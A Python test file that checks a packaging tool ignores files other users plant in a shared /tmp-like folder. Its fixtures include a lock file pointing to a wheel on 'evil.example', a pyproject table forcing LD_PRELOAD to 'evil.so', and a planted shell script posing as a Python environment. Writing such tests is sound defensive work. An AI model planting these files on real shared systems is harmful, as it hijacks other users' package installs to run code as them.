"""Files that another user may have put where we go upward: three ways in which they once ran code as the person.

A folder that every user can write to is enough for that; nobody else is needed here.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from .combinations import some
from .stock import NEWEST_PIP, NEWEST_UV
from .workplace import Workplace

_LOCK = """
lock-version = "1.0"
created-by = "somebody"
[[packages]]
name = "torch"
version = "6.6.6"
wheels = [{ url = "https://evil.example/torch-6.6.6-py3-none-any.whl", hashes = { sha256 = "%s" } }]
""" % ("0" * 64)


@pytest.fixture
def shared(place: Workplace) -> Path:
    """Return a folder as /tmp is one."""
    folder = place.folder / "tmp"
    folder.chmod(0o1777)
    return folder


@some("frontend", ["pip", "uv", "build"], "uv")
def test_lock_in_the_temporary_folder(place: Workplace, shared: Path, frontend: str) -> None:
    """A lock in the folder that sdists are unpacked in decides nothing: the build stops, as without it."""
    (shared / "pylock.toml").write_text(_LOCK, "utf-8")
    target = place.target(None, pip=NEWEST_PIP)
    package = place.package("probe_setuptools", into="tmp/mine")
    sdist = place.sdist(package)
    if frontend == "pip":
        result = place.run(target.python, "-m", "pip", "install", sdist, fails=True)
    elif frontend == "uv":
        result = place.uv(NEWEST_UV, "pip", "install", "--python", target.python, sdist, fails=True)
    else:
        result = place.build("--wheel", "--outdir", place.folder / "out", package, fails=True)
    assert "evil.example" not in result.output
    assert [] == [plan["requirements"] for plan in place.hooks() if plan["requirements"]]


def test_variables_above_the_working_folder(place: Workplace, shared: Path) -> None:
    """A table above the folder where pip is started sets nothing, and is named; a folder that is trusted does."""
    library = shared / "evil.so"
    table = (
        f'[tool.runtime-backend.packages.probe-setuptools.env]\nLD_PRELOAD = {{ value = "{library}", force = true }}\n'
    )
    (shared / "pyproject.toml").write_text(table, "utf-8")
    (shared / "mine").mkdir()
    target, package = place.target("2.7.0", pip=NEWEST_PIP), place.package("probe_setuptools")
    command = (target.python, "-m", "pip", "install", "-v", package)
    result = place.run(*command, cwd=shared / "mine")
    assert f"{shared}/pyproject.toml is not read: another user may have written it" in result.output
    assert {()} == {tuple(plan["variables"]) for plan in place.hooks()}
    place.forget()
    result = place.run(*command, "--force-reinstall", "--no-deps", cwd=shared / "mine", RUNTIME_BACKEND_TRUST=shared)
    assert f"note: LD_PRELOAD={library} is set by {shared}/pyproject.toml: tool.runtime-backend" in result.output


def test_environment_that_is_a_program(place: Workplace, shared: Path) -> None:
    """``explain`` runs no program that such a table names."""
    evil = shared / "python-evil"
    evil.write_text(f"#!/bin/sh\ntouch {shared}/ran\n", "utf-8")
    evil.chmod(0o755)
    (shared / "pyproject.toml").write_text(f'[tool.runtime-backend.target]\nenvironment = "{evil}"\n', "utf-8")
    (shared / "mine").mkdir()
    target, package = place.target(None, "runtime-backend"), place.package("probe_setuptools")
    for trusted in (None, shared):
        command = (target.python, "-m", "runtime_backend", "explain", package)
        place.run(*command, cwd=shared / "mine", fails=True, RUNTIME_BACKEND_TRUST=trusted)
        assert (shared / "ran").exists() == (trusted is not None)
